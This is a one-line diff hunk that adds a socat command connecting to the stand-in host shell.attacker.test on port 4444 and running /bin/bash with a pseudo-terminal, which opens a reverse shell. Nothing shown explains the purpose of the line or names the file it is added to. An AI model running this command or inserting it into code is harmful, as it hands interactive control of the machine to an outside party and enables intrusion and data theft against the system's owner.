@@ -1,0 +1,1 @@
+socat TCP:shell.attacker.test:4444 EXEC:/bin/bash,pty
